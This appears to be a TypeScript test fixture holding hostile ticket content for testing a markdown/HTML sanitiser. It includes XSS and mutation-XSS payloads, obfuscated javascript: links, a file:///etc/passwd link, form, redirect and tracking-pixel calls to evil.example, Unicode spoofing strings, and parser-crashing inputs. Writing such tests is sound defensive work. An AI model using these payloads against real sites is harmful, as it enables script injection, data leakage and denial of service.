/** Hostile ticket and article content: what a brand's customers (or an attacker) can send. */
export const injection: Record<string, string> = {
  scriptTag: '<script>alert(1)</script>',
  scriptInCode: 'Hello\n\n<script>window.pwned = 1</script>\n\n`<script>`',
  imgOnerror: '<img src=x onerror=alert(1)>',
  svgOnload: '<svg/onload=alert(1)><svg><script>alert(1)</script></svg>',
  mathMxss:
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  noscriptMxss: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  htmlJsLink: '<a href="javascript:alert(1)">click</a>',
  mdJsLink: '[click](javascript:alert(1))',
  mdJsLinkCase: '[click](JaVaScRiPt:alert(1))',
  mdJsLinkEntity: '[click](&#106;avascript:alert(1))',
  mdJsLinkTab: '<a href="java\tscript:alert(1)">tab</a>',
  mdJsAutolink: '<javascript:alert(1)>',
  mdJsReference: '[click][evil]\n\n[evil]: javascript:alert(1)',
  dataLink: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  vbscript: '<a href="vbscript:msgbox(1)">vb</a>',
  fileLink: '[passwd](file:///etc/passwd)',
  iframe: '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  objectEmbed: '<object data="https://evil.example/x.swf"></object><embed src="x">',
  form: '<form action="https://evil.example"><input name=p><button formaction="javascript:alert(1)">go</button></form>',
  meta: '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/">[rel](./x)',
  style:
    '<style>body{background:url(https://evil.example/track)}</style><p style="position:fixed;inset:0">over</p>',
  detailsToggle: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  imageMarkdown: '![pixel](https://evil.example/track.gif)',
  template: '<template><script>alert(1)</script></template>',
  dataAttr: '<div data-article-id="../../etc" data-x="y">d</div>',
  targetTop: '<a href="https://example.com" target="_top" rel="opener">ext</a>',
  rtlLink: '[https://bank.example](https://evil.example/\u202Eelpmaxe.knab)',
  zeroWidth: 'pay\u200Bpal\u200C.com \uFEFF admin\u200D login',
  rtlOverride: 'Refund \u202Eexe.fdp\u202C now \u2066isolated\u2069',
};

/**
 * Shapes that have made markdown parsers slow or crash, at sizes a test can afford. At full size
 * (about 1 MB each) some are far slower: see the hardening report (marked takes ~50 s for a
 * 1,000-level nested list; jsdom's DOM, not Chromium's, dominates deep HTML nesting).
 */
export const pathological: Record<string, string> = {
  deepBlockquote: `${'>'.repeat(500)} deep`,
  deepList: Array.from({ length: 100 }, (_, i) => `${'  '.repeat(i)}- item ${i}`).join('\n'),
  manyBrackets: '['.repeat(20_000) + 'x' + ']'.repeat(20_000),
  manyStars: '*'.repeat(50_000) + 'x',
  manyBackticks: '`'.repeat(30_000),
  nestedEmphasis: '*_'.repeat(500) + 'x' + '_*'.repeat(500),
  manyLinks: '[a](https://a.example) '.repeat(500),
  tableWide: `|${' c |'.repeat(200)}\n|${'---|'.repeat(200)}\n|${' v |'.repeat(200)}`,
  htmlNesting: '<div>'.repeat(300) + 'x' + '</div>'.repeat(300),
  // About 2,000 list markers, lists nested 512 deep: several markers to a line open a list each.
  deepListMarkers: `${'- '.repeat(512)}x\n`.repeat(4),
  deepOrderedList: `${'1. '.repeat(512)}x\n`.repeat(4),
  deepListInQuotes: `${'> - '.repeat(256)}x\n`.repeat(4),
  deepListTabs: Array.from({ length: 2_000 }, (_, i) => `${'\t'.repeat(i % 40)}- item ${i}`).join(
    '\n',
  ),
  flatList: Array.from({ length: 2_000 }, (_, i) => `- item ${i}`).join('\n'),
};

/** Ordinary-looking message text of about `bytes`, with some markdown sprinkled in. */
/** Deep enough to overflow marked's recursive block parser (a RangeError, see the report). */
export const stackOverflow = `${'>'.repeat(5_000)} deep`;

export function hugeMessage(bytes = 1_000_000): string {
  const paragraph =
    'Hi, my order **#12345** arrived damaged. I tried [the guide](https://help.example/returns) ' +
    'but the `return label` link is broken.\n\n';
  return paragraph.repeat(Math.ceil(bytes / paragraph.length));
}
